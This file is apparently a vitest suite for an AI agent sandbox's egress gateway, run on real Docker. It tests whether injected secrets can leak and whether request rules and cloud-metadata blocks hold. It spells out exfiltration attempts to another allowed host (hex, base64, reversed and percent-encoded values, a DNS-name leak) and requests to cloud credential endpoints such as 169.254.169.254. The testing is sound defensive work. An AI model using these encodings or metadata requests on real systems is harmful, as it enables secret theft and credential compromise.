/**
 * Adversarial, on real Docker: a hostile command with `--secret` and `--allow-request` in force.
 * The secret's own host echoes what it gets (the value, after the gateway swapped it in) back in
 * every form servers use; the sandbox already holding the value tries every form towards another
 * allowed host; a request rule in front of an unmodified `python3 -m http.server` is probed with
 * paths that servers read differently; allowed names resolve to the clouds' credential endpoints.
 * Judged from the host: nothing the sandbox or the model was handed gives the value back (the
 * tests' own oracle, `value-oracle.ts`), no other origin and no name lookup ever carries it,
 * http.server never serves `/secret`, and no metadata address is ever connected to.
 */
import { copyFileSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ensureSandboxImage } from "../../../src/sandbox/docker/container/image.js";
import { DockerSandbox } from "../../../src/sandbox/docker/docker-sandbox.js";
import { connectDocker } from "../../../src/sandbox/docker/engine/docker-client.js";
import { RunCertificateAuthority } from "../../../src/sandbox/egress/secrets/run-ca.js";
import { SecretValue } from "../../../src/sandbox/egress/secrets/secret-grant.js";
import type { EgressRecord, ExecResult } from "../../../src/sandbox/sandbox.js";
import { skipDocker } from "../../support/docker-available.js";
import { ECHO_FORMS, type EchoOrigin, startEchoOrigin } from "../../support/egress/echo-origin.js";
import {
  type PythonFileServer,
  SECRET_FILE_TEXT,
  SNEAKY_TARGETS,
  startPythonFileServer,
} from "../../support/egress/python-file-server.js";
import { recoverValue } from "../../support/egress/value-oracle.js";
import { makeWorkspace } from "../../support/workspace.js";

const VALUE = "tok_R3aL/v4lue+9d8c.7b6a-5f4e";
const API = "api.example.org";
const OTHER = "other.example.org";
const FILES = "files.example.org";
const PROBE = fileURLToPath(new URL("../../support/egress/secret-probe.py", import.meta.url));

/** The clouds' credential endpoints, each behind an allowed name the test's resolver points there. */
const METADATA: Record<string, string> = {
  "ecs.example.org": "169.254.170.2",
  "eks.example.org": "169.254.170.23",
  "eks6.example.org": "fd00:ec2::23",
  "wireserver.example.org": "168.63.129.16",
  "imds.example.org": "169.254.169.254",
  "imds6.example.org": "fd00:ec2::254",
  "alibaba.example.org": "100.100.100.200",
  "mapped.example.org": "::ffff:169.254.170.2",
  "nat64.example.org": "64:ff9b::a9fe:aa02",
};

interface PlannedRequest {
  name: string;
  scheme: "https" | "http";
  host: string;
  port: number;
  path: string;
  method?: string;
  headers?: Array<[string, string]>;
  pieces?: string[];
}

const basic = (user: string, secret: string): string =>
  `Basic ${Buffer.from(`${user}:${secret}`).toString("base64")}`;

describe.skipIf(skipDocker)(
  "adversarial: a secret's value and the request rules",
  { timeout: 600_000 },
  () => {
    const testCa = new RunCertificateAuthority();
    const tls = (host: string) => ({ cert: testCa.leafFor(host).certPem, key: testCa.leafFor(host).keyPem });
    let ws: ReturnType<typeof makeWorkspace>;
    let api: EchoOrigin;
    let apiPlain: EchoOrigin;
    let other: EchoOrigin;
    let otherTls: EchoOrigin;
    let files: PythonFileServer;
    let sandbox: DockerSandbox;
    const asked: string[] = [];
    const records: EgressRecord[] = [];
    const outputs: ExecResult[] = [];

    /** Runs the plan through the probe in the sandbox; returns each response as the sandbox saved it. */
    async function probe(label: string, plan: PlannedRequest[]): Promise<Map<string, Buffer>> {
      writeFileSync(join(ws.path, `${label}.json`), JSON.stringify(plan));
      const result = await sandbox.exec(
        `python3 /workspace/probe.py /workspace/${label}.json /workspace/${label}`,
        {
          callId: `toolu_${label}`,
          timeoutMs: 300_000,
        },
      );
      outputs.push(result);
      expect(result.exitCode, result.stderr).toBe(0);
      const saved = new Map<string, Buffer>();
      for (const name of readdirSync(join(ws.path, label))) {
        saved.set(name.replace(/\.resp$/, ""), readFileSync(join(ws.path, label, name)));
      }
      return saved;
    }

    function expectNothingRecovers(saved: Map<string, Buffer>): void {
      const found = [...saved].flatMap(([name, bytes]) => {
        const how = recoverValue(bytes, VALUE);
        return how === undefined ? [] : [`${name}: ${how}`];
      });
      expect(found).toEqual([]);
    }

    beforeAll(async () => {
      const docker = await connectDocker();
      const image = await ensureSandboxImage(docker);
      ws = makeWorkspace();
      copyFileSync(PROBE, join(ws.path, "probe.py"));
      api = await startEchoOrigin(tls(API));
      apiPlain = await startEchoOrigin();
      other = await startEchoOrigin();
      otherTls = await startEchoOrigin(tls(OTHER));
      files = await startPythonFileServer(tls(FILES));
      const names = [API, OTHER, FILES];
      sandbox = await DockerSandbox.open({
        workspace: ws.path,
        image,
        removeOnStop: true,
        egress: {
          allowHosts: [
            `${OTHER}:${other.port},${otherTls.port}`,
            `*.${OTHER}:${other.port}`,
            `${FILES}:${files.tlsPort},${files.port}`,
            ...Object.keys(METADATA).map((name) => `${name}:80`),
          ],
          allowPrivate: true,
          requestRules: [
            `*@${OTHER}:${otherTls.port}/`,
            `GET@${FILES}:${files.tlsPort},${files.port}/allowed/`,
          ],
          secrets: [
            {
              name: "API_TOKEN",
              host: `${API}:${api.port},${apiPlain.port}`,
              inBody: false,
              value: new SecretValue("API_TOKEN", VALUE),
            },
          ],
        },
        egressLookup: async (hostname) => {
          asked.push(hostname);
          const name = hostname.toLowerCase();
          const metadata = METADATA[name];
          if (metadata !== undefined) return [{ address: metadata, family: metadata.includes(":") ? 6 : 4 }];
          if (names.includes(name) || name.endsWith(`.${OTHER}`))
            return [{ address: "127.0.0.1", family: 4 }];
          throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${hostname}`), { code: "ENOTFOUND" });
        },
        egressUpstreamCa: [testCa.certPem],
      });
      sandbox.egress?.subscribe((record) => records.push(record));
      const placeholder = await sandbox.exec('printf %s "$API_TOKEN"');
      expect(placeholder.stdout).toMatch(/^harness-secret-API_TOKEN-/);
      writeFileSync(join(ws.path, "placeholder"), placeholder.stdout);
    });

    afterAll(async () => {
      await sandbox?.stop();
      for (const origin of [api, apiPlain, other, otherTls]) await origin?.close();
      await files?.close();
      ws?.[Symbol.dispose]();
    });

    const placeholder = (): string => readFileSync(join(ws.path, "placeholder"), "utf8");

    it("finding 8: Basic credentials an origin echoes reach the sandbox as the placeholder only", async () => {
      const plan: PlannedRequest[] = [];
      for (const user of ["x-access-token", "x", "xy", "xyz"]) {
        for (const [scheme, port] of [
          ["https", api.port],
          ["http", apiPlain.port],
        ] as const) {
          const headers: Array<[string, string]> = [["Authorization", basic(user, placeholder())]];
          plan.push({ name: `raw-${scheme}-${user}`, scheme, host: API, port, path: "/form/raw", headers });
          plan.push({
            name: `head-${scheme}-${user}`,
            scheme,
            host: API,
            port,
            path: "/",
            method: "HEAD",
            headers,
          });
        }
      }
      const saved = await probe("basic", plan);
      expect(saved.size).toBe(plan.length);
      // The origin got the value each time, the sandbox the credentials it sent.
      const seen = [...api.seen, ...apiPlain.seen].map((s) => s.headers.join("\n"));
      expect(seen.filter((h) => h.includes(basic("x", VALUE))).length).toBe(4);
      const echoed = saved.get("raw-https-x")?.toString("latin1").split("\n\n")[1] ?? "";
      expect(Buffer.from(echoed.replace(/^Basic /, ""), "base64").toString()).toBe(`x:${placeholder()}`);
      expectNothingRecovers(saved);
    });

    it("finding 14: every form an origin transforms the value into is masked or cut off", async () => {
      const plan: PlannedRequest[] = [];
      for (const form of ECHO_FORMS) {
        for (const [kind, authorization] of [
          ["bearer", `Bearer ${placeholder()}`],
          ["basic", basic("x-access-token", placeholder())],
          ["basic2", basic("xy", placeholder())],
        ] as const) {
          plan.push({
            name: `${form}-${kind}`,
            scheme: "https",
            host: API,
            port: api.port,
            path: `/form/${form}`,
            headers: [
              ["Authorization", authorization],
              ["Accept-Encoding", "gzip, br, zstd"],
            ],
          });
        }
      }
      for (let start = 0; start < 80; start += 8) {
        plan.push({
          name: `range-${String(start).padStart(2, "0")}`,
          scheme: "https",
          host: API,
          port: api.port,
          path: "/form/range",
          headers: [
            ["Authorization", `Bearer ${placeholder()}`],
            ["Range", `bytes=${start}-${start + 7}`],
          ],
        });
      }
      plan.push({
        name: "websocket",
        scheme: "https",
        host: API,
        port: api.port,
        path: "/ws",
        headers: [
          ["Authorization", `Bearer ${placeholder()}`],
          ["Connection", "Upgrade"],
          ["Upgrade", "websocket"],
        ],
      });
      const saved = await probe("forms", plan);
      expect(saved.size).toBe(plan.length);
      expectNothingRecovers(saved);
      const assembled = [...saved]
        .filter(([name]) => name.startsWith("range-"))
        .sort(([a], [b]) => a.localeCompare(b))
        .map(([, bytes]) => bytes.toString("latin1").split("\n\n").slice(1).join("\n\n"))
        .join("");
      expect(recoverValue(assembled, VALUE), assembled).toBe(undefined);
      // Masked, not refused, where the form can carry the placeholder instead.
      const b64 = saved.get("b64-bearer")?.toString("latin1").split("\n\n")[1] ?? "";
      expect(Buffer.from(b64, "base64").toString()).toBe(`Bearer ${placeholder()}`);
    });

    it("finding 9: a sandbox that holds the value cannot send it to another allowed host", async () => {
      const bytes = Buffer.from(VALUE);
      const forms: Array<[string, Partial<PlannedRequest>]> = [
        ["header", { headers: [["X-Leak", VALUE]] }],
        ["header-upper", { headers: [["X-Leak", VALUE.toUpperCase()]] }],
        ["basic-0", { headers: [["Authorization", basic("x-access-token", VALUE)]] }],
        ["basic-1", { headers: [["Authorization", basic("x", VALUE)]] }],
        ["basic-2", { headers: [["Authorization", basic("xy", VALUE)]] }],
        ["query", { path: `/?t=${encodeURIComponent(VALUE)}` }],
        ["query-percent-all", { path: `/?t=${[...bytes].map((b) => `%${b.toString(16)}`).join("")}` }],
        ["path-hex", { path: `/${bytes.toString("hex")}` }],
        ["path-base64url", { path: `/${Buffer.from(`..${VALUE}`).toString("base64url")}` }],
        [
          "body-pieces",
          {
            method: "POST",
            pieces: [...Buffer.from(`t=${VALUE}`)].map((b) => Buffer.from([b]).toString("base64")),
          },
        ],
        [
          "body-json-u",
          {
            method: "POST",
            pieces: [
              Buffer.from(
                JSON.stringify({ t: VALUE }).replace(/[a-z]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
              ).toString("base64"),
            ],
          },
        ],
        [
          "body-base64",
          {
            method: "POST",
            pieces: [Buffer.from(Buffer.from(`a${VALUE}`).toString("base64")).toString("base64")],
          },
        ],
        [
          "body-reversed",
          { method: "POST", pieces: [Buffer.from([...VALUE].reverse().join("")).toString("base64")] },
        ],
      ];
      const plan: PlannedRequest[] = [];
      for (const [name, form] of forms) {
        plan.push({
          name: `plain-${name}`,
          scheme: "http",
          host: OTHER,
          port: other.port,
          path: "/",
          ...form,
        });
        plan.push({
          name: `tls-${name}`,
          scheme: "https",
          host: OTHER,
          port: otherTls.port,
          path: "/",
          ...form,
        });
      }
      // A name under an allowed entry that carries it: looked up, it would reach the zone's DNS.
      plan.push({
        name: "name",
        scheme: "http",
        host: `${bytes.toString("hex")}.${OTHER}`,
        port: other.port,
        path: "/",
      });
      const saved = await probe("outbound", plan);
      expect(saved.size).toBe(plan.length);
      for (const [name, answer] of saved)
        expect(answer.toString("latin1"), name).toMatch(/^(403|400) |^ERROR /);
      for (const seen of [...other.seen, ...otherTls.seen]) {
        expect(recoverValue(JSON.stringify(seen), VALUE), JSON.stringify(seen)).toBe(undefined);
      }
      expect(asked.join(" ")).not.toContain(bytes.toString("hex"));
      // Printed, in any form the gateway knows, it reaches neither the model nor the transcript.
      writeFileSync(join(ws.path, "held"), VALUE);
      const printed = await sandbox.exec(
        `v=$(cat /workspace/held); echo "$v"; printf %s "$v" | base64; printf %s "x:$v" | base64; ` +
          `printf %s "$v" | od -An -tx1 | tr -d ' \\n'; echo; printf %s "$v" | rev`,
      );
      outputs.push(printed);
      expect(printed.stdout).toContain("harness-secret-API_TOKEN-");
      expect(recoverValue(printed.stdout, VALUE), printed.stdout).toBe(undefined);
      expect(
        records.filter((r) => !r.allowed && r.secrets?.includes("API_TOKEN") && r.host.includes(OTHER))
          .length,
      ).toBeGreaterThanOrEqual(forms.length * 2);
    });

    it("finding 10: no request target gets http.server's /secret past GET@HOST/allowed/", async () => {
      const targets = SNEAKY_TARGETS.filter((t) => /^[\x21-\x7e]+$/.test(t));
      const plan: PlannedRequest[] = [];
      targets.forEach((path, i) => {
        plan.push({ name: `tls-${i}`, scheme: "https", host: FILES, port: files.tlsPort, path });
        plan.push({ name: `plain-${i}`, scheme: "http", host: FILES, port: files.port, path });
      });
      plan.push({
        name: "control",
        scheme: "https",
        host: FILES,
        port: files.tlsPort,
        path: "/allowed/page",
      });
      const saved = await probe("paths", plan);
      expect(saved.get("control")?.toString()).toMatch(/^200 /);
      const served = [...saved].filter(([, bytes]) => bytes.includes(SECRET_FILE_TEXT)).map(([name]) => name);
      expect(served).toEqual([]);
      const passed = [...saved]
        .filter(([name, bytes]) => name !== "control" && !/^(403|400) /.test(bytes.toString("latin1")))
        .map(
          ([name, bytes]) =>
            `${name} ${targets[Number(name.split("-")[1])]}: ${bytes.toString("latin1").split("\n")[0]}`,
        );
      expect(passed).toEqual([]);
      const servedByOrigin = files.log().match(/"GET [^"]*" 200/g) ?? [];
      expect(servedByOrigin.filter((line) => !line.startsWith('"GET /allowed/page '))).toEqual([]);
    });

    it("finding 15: the clouds' credential endpoints are refused by address, even with --allow-private", async () => {
      const plan: PlannedRequest[] = Object.keys(METADATA).map((name) => ({
        name,
        scheme: "http",
        host: name,
        port: 80,
        path: "/latest/meta-data/iam/security-credentials/",
      }));
      const saved = await probe("metadata", plan);
      for (const [name, answer] of saved) {
        expect(answer.toString(), name).toMatch(/^403 /);
        expect(answer.toString(), name).toContain(
          "a cloud metadata address (always refused, even with --allow-private)",
        );
      }
      const metadataRecords = records.filter((r) => r.host in METADATA);
      expect(metadataRecords.length).toBe(Object.keys(METADATA).length);
      // Refused before any connection: no record names an address it connected to.
      for (const record of metadataRecords) expect(record).toMatchObject({ allowed: false, status: 403 });
      expect(JSON.stringify(metadataRecords)).not.toMatch(/"address"/);
    });

    it("what the model got (every tool result) and every record hold the value in no form", () => {
      for (const output of outputs) {
        expect(recoverValue(`${output.stdout}\n${output.stderr}`, VALUE)).toBe(undefined);
      }
      expect(recoverValue(JSON.stringify(records), VALUE)).toBe(undefined);
    });
  },
);
